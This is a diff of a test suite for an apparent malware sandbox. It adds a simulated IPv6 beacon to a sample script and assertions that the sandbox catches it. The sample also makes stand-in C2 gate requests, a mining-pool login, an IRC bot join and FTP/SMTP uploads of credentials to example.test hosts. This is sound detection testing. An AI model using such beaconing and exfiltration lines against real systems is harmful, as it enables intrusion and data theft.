@@ -132,6 +132,11 @@ try:
     if l.startswith(b'ERROR'): break
   b.close()
 except Exception as e: print('irc:', e)
+try:
+  s6 = socket.create_connection(('2001:db8:1::7', 8443), timeout=3)
+  s6.sendall(b'\\x00\\x01HELLO6')
+  s6.close()
+except OSError as e: print('six:', e)
 s.sendall(b'{\\"id\\":1,\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"login\\",\\"params\\":{\\"login\\":\\"4AbC\\",\\"pass\\":\\"x\\",\\"agent\\":\\"XMRig/6.21.0\\"}}\\n')
 s.close()
 print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', timeout=5).status)
@@ -180,6 +185,10 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     const upload = r.sessions?.find((c) => c.protocol === 'ftp');
     assert.deepEqual(upload && [upload.domain, upload.port, upload.ftp], ['ftp.example.test', 21, { user: 'ops', password: 'ftp-pw', files: [{ command: 'STOR', path: 'PW_devbox.txt' }], uploads: 1, downloads: 0 }], JSON.stringify(r.sessions));
     assert.ok(r.sessions?.some((c) => c.domain === 'ftp.example.test' && c.protocol === 'other' && c.preview === 'chrome: admin / letmein'), JSON.stringify(r.sessions));
+    // IPv6 to a hard-coded address is caught too, and judged with the process that connected
+    const six = r.sessions?.find((c) => c.address === '2001:db8:1::7');
+    assert.deepEqual(six && [six.port, six.protocol, six.preview], [8443, 'other', '\\x00\\x01HELLO6'], JSON.stringify(r.sessions));
+    assert.match(r.findings.find((f) => f.rule === 'ST-C2-013' && /2001:db8:1::7/.test(f.output ?? ''))?.output ?? '', /->\[2001:db8:1::7\]:8443 first_bytes=\\x00\\x01HELLO6 process=python3\)$/, JSON.stringify(r.findings.map((f) => f.output)));
     // an IRC bot: welcomed by the catch-all as an IRC server, it joined its channel with the key
     const bot = r.sessions?.find((c) => c.protocol === 'irc');
     assert.deepEqual(bot && [bot.domain, bot.port, bot.irc?.nick, bot.irc?.channels], ['irc.botnet.example.test', 6667, '[x86]a1', [{ name: '#cmd', key: 'k3y' }]], JSON.stringify(r.sessions));
@@ -212,11 +221,11 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     // the indicators gather it: names, the hard-coded endpoints, URLs, accounts
     const ind = r.indicators;
     assert.ok(ind && ['c2.example.test', 'gulf.moneroocean.stream', 'smtp.example.test', 'ftp.example.test'].every((d) => ind.domains.includes(d)), JSON.stringify(ind));
-    assert.ok(ind.endpoints.includes('203.0.113.7:5000') && ind.endpoints.includes('203.0.113.9:7000') && !ind.endpoints.some((e) => e.startsWith('198.18.') || e.startsWith('192.0.2.53')), JSON.stringify(ind.endpoints));
+    assert.ok(ind.endpoints.includes('203.0.113.7:5000') && ind.endpoints.includes('203.0.113.9:7000') && ind.endpoints.includes('[2001:db8:1::7]:8443') && !ind.endpoints.some((e) => e.startsWith('198.18.') || e.startsWith('192.0.2.53')), JSON.stringify(ind.endpoints));
     assert.ok(ind.urls.includes('http://c2.example.test/gate.php?id=1') && ind.urls.includes('https://secure.example.test/api/beacon'), JSON.stringify(ind.urls));
     assert.deepEqual(ind.accounts, [{ protocol: 'smtp', user: 'logs@mail.example.test', password: 'Hunter2!' }, { protocol: 'ftp', user: 'ops', password: 'ftp-pw' }, { protocol: 'irc', user: '#cmd', password: 'k3y' }]);
     assert.match(html, /<h2 id="indicators">Indicators<\/h2>[\s\S]*<div class="argv">203\.0\.113\.7:5000<\/div>/);
-    assert.match(html, /Connections caught in the sandbox \(12\)[\s\S]*GET \/gate\.php\?id=1/);
+    assert.match(html, /Connections caught in the sandbox \(13\)[\s\S]*GET \/gate\.php\?id=1/);
     assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1 · body 4 bytes, sha256 [0-9a-f]{64}: id=7<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
     assert.match(html, /<td>smtp<\/td><td><span class="argv">mail from promo@shop\.example\.test to victim@example\.test · Subject: You won · HELO [^<]* · logged in as logs@mail\.example\.test \(AUTH PLAIN, password Hunter2!\)<\/span><div class="muted small">STARTTLS: decrypted/);
     assert.match(html, /server name pinned\.example\.test<\/span><div class="muted small">handshake completed, then nothing sent through it \(a sample that pins its server's key refuses the certificate only then\)/);
